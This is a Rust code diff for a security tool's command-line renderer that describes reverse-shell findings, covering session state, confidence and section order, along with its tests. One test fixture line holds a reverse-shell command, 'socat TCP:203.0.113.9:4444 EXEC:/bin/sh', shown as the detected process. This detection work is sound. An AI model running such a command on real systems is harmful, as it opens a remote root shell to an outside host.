@@ -2,9 +2,9 @@
 
 use crate::findings::processes::{command, shortened, tree};
 use crate::inert::{line, lines};
-use ::findings::shell_quote;
+use ::findings::{duration, shell_quote};
 use anyhow::{Context, Result};
-use finding::{File, FindingResource};
+use finding::{File, FindingResource, Timestamp};
 use serde_json::Value;
 use std::fmt::Write as _;
 
@@ -26,16 +26,17 @@ pub(crate) fn text(item: &FindingResource) -> String {
     detected(&mut page, item);
     affected(&mut page, item);
     connection(&mut page, item);
-    page.head("Processes (* is what the finding is about)");
-    tree(&mut page.0, &finding.processes);
-    evidence(&mut page, item);
-    coverage(&mut page, item);
+    confidence(&mut page, item);
     if !finding.next_steps.is_empty() {
         page.head("Next steps");
         for step in finding.next_steps.lines() {
             let _ = writeln!(page.0, "  {}", line(step));
         }
     }
+    page.head("Processes (* is what the finding is about)");
+    tree(&mut page.0, &finding.processes);
+    evidence(&mut page, item);
+    coverage(&mut page, item);
     page.0
 }
 
@@ -44,6 +45,11 @@ struct Page(String);
 impl Page {
     fn head(&mut self, title: &str) {
         let _ = writeln!(self.0, "\n{title}");
+    }
+
+    /// One of several facts under one name.
+    fn indented(&mut self, name: &str, value: &str) {
+        let _ = writeln!(self.0, "  {name:<16}{}", line(value));
     }
 
     /// One named fact; left out when there is none.
@@ -148,14 +154,16 @@ fn connection(page: &mut Page, item: &FindingResource) {
         let transport = said(item, "session/endpoint/transport");
         page.fact("Flow", &format!("{from} -> {to}  {transport}"));
     }
+    let who = if at(item, "container").is_some() { "the container" } else { "the node" };
     page.fact(
         "Direction",
-        match said(item, "session/direction") {
-            "reverse" | "REVERSE" => "reverse: the container called out",
-            "bind" | "BIND" => "bind: the container was called",
-            other => other,
+        &match said(item, "session/direction") {
+            "reverse" => format!("reverse: {who} called out"),
+            "bind" => format!("bind: {who} was called"),
+            other => other.to_owned(),
         },
     );
+    page.fact("Session", &session(item));
     let yes_no = |path: &str| match at(item, path).and_then(Value::as_bool) {
         Some(true) => "yes",
         Some(false) => "no",
@@ -163,7 +171,42 @@ fn connection(page: &mut Page, item: &FindingResource) {
     };
     page.fact("TLS", yes_no("session/tls"));
     page.fact("Terminal", yes_no("session/terminal"));
+}
+
+/// Whether it goes on.
+fn session(item: &FindingResource) -> String {
+    let ended = said(item, "session/ended");
+    if ended.is_empty() {
+        return match at(item, "session/ended") {
+            Some(Value::Null) => format!("still open at {}", said(item, "coverage/to")),
+            _ => String::new(),
+        };
+    }
+    if at(item, "session/endedExactly") != Some(&Value::Bool(true)) {
+        return format!("had ended by {ended}");
+    }
+    let lasted = ended
+        .parse::<Timestamp>()
+        .ok()
+        .zip(item.finding.event_time)
+        .map(|(ended, began)| duration(ended.nanos().saturating_sub(began.nanos())));
+    format!("ended after {}, at {ended}", lasted.unwrap_or_default())
+}
+
+fn confidence(page: &mut Page, item: &FindingResource) {
+    let level = said(item, "confidence/level");
+    if level.is_empty() {
+        return;
+    }
+    page.head("How sure");
+    page.fact("Confidence", level);
     page.fact("Recognised by", said(item, "session/recognisedBy"));
+    for (key, name) in [("seen", "Seen"), ("inferred", "Inferred"), ("missing", "Missing")] {
+        let list = at(item, &format!("confidence/{key}")).and_then(Value::as_array).into_iter().flatten();
+        for (at, fact) in list.filter_map(Value::as_str).enumerate() {
+            page.indented(if at == 0 { name } else { "" }, fact);
+        }
+    }
 }
 
 fn evidence(page: &mut Page, item: &FindingResource) {
@@ -245,7 +288,9 @@ mod tests {
             "sourceProperties": {"Pod_Namespace": "shop", "Pod_Name": "web-1", "Container_Name": "app",
                 "Container_Id": "c".repeat(64), "Container_Image_Uri": "registry/app:1", "VM_Instance_Name": "node-1"},
             "vedette": {
-                "session": {"direction": "reverse", "tls": false, "terminal": true, "endpoint": {"transport": "tcp"}},
+                "session": {"direction": "reverse", "tls": false, "terminal": true, "endpoint": {"transport": "tcp"}, "ended": null},
+                "container": {"id": "c".repeat(64)},
+                "confidence": {"level": "MEDIUM", "seen": ["the direction (reverse)"], "inferred": ["one", "two"], "missing": []},
                 "coverage": {"from": "2026-01-02T03:04:00Z", "to": "2026-01-02T03:04:06Z", "complete": true, "lost": {}, "fromSnapshot": false},
                 "evidence": [{"kind": "EXECUTABLE", "name": "shell: /bin/sh", "size": "125688", "originalSize": "125688", "truncated": false}],
                 "evidenceMissing": ["socat: environ: gone"],
@@ -271,6 +316,9 @@ mod tests {
             "reverse: the container called out",
             "socat pid 11 user 0: socat TCP:203.0.113.9:4444 EXEC:/bin/sh",
             "  * └─ sh pid 12 user 0: sh",
+            "Session         still open at 2026-01-02T03:04:06Z",
+            "Confidence      MEDIUM",
+            "Inferred        one\n                  two\n",
             "EXECUTABLE       122 KiB  shell: /bin/sh",
             "Not taken        socat: environ: gone",
             "nothing was lost from 2026-01-02T03:04:00Z",
@@ -278,6 +326,49 @@ mod tests {
         ] {
             assert!(page.contains(part), "{part:?} is not in:\n{page}");
         }
+    }
+
+    /// `VEDETTE_SNAPSHOTS=write cargo test -p cli` writes it anew, for a reader to judge.
+    #[test]
+    fn a_finding_reads_as_it_is_meant_to() {
+        let here = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
+        let found = std::fs::read_to_string(here.join("../findings/tests/snapshots/pod.json")).unwrap();
+        let page = text(&document(&serde_json::from_str(&found).unwrap()).unwrap());
+        let path = here.join("tests/snapshots/pod.txt");
+        if std::env::var_os("VEDETTE_SNAPSHOTS").is_some_and(|what| what == "write") {
+            std::fs::write(&path, &page).unwrap();
+        }
+        let should = std::fs::read_to_string(&path).unwrap_or_default();
+        assert!(page == should, "{} is not what is shown now:\n{page}", path.display());
+    }
+
+    #[test]
+    fn answers_come_before_steps_and_steps_before_evidence() {
+        let page = text(&document(&found()).unwrap());
+        let at = |part: &str| page.find(part).unwrap_or_else(|| panic!("{part:?} is not in:\n{page}"));
+        let order = ["User 0 ran", "What was detected", "Affected", "Connection", "How sure", "Next steps"];
+        let order = order.iter().chain(&["Processes (", "Evidence that", "Coverage"]).map(|part| at(part));
+        assert!(order.clone().is_sorted(), "{page}");
+    }
+
+    #[test]
+    fn the_end_of_the_session_is_said_as_well_as_it_is_known() {
+        let mut found = found();
+        found["finding"]["vedette"]["session"]["ended"] = json!("2026-01-02T03:04:08.5Z");
+        found["finding"]["vedette"]["session"]["endedExactly"] = json!(true);
+        let page = text(&document(&found).unwrap());
+        assert!(page.contains("Session         ended after 3.5 s, at 2026-01-02T03:04:08.5"), "{page}");
+        found["finding"]["vedette"]["session"]["endedExactly"] = json!(false);
+        let page = text(&document(&found).unwrap());
+        assert!(page.contains("Session         had ended by 2026-01-02T03:04:08.5"), "{page}");
+    }
+
+    #[test]
+    fn what_is_not_in_a_container_is_not_called_one() {
+        let mut found = found();
+        found["finding"]["vedette"].as_object_mut().unwrap().remove("container");
+        let page = text(&document(&found).unwrap());
+        assert!(page.contains("reverse: the node called out"), "{page}");
     }
 
     #[test]
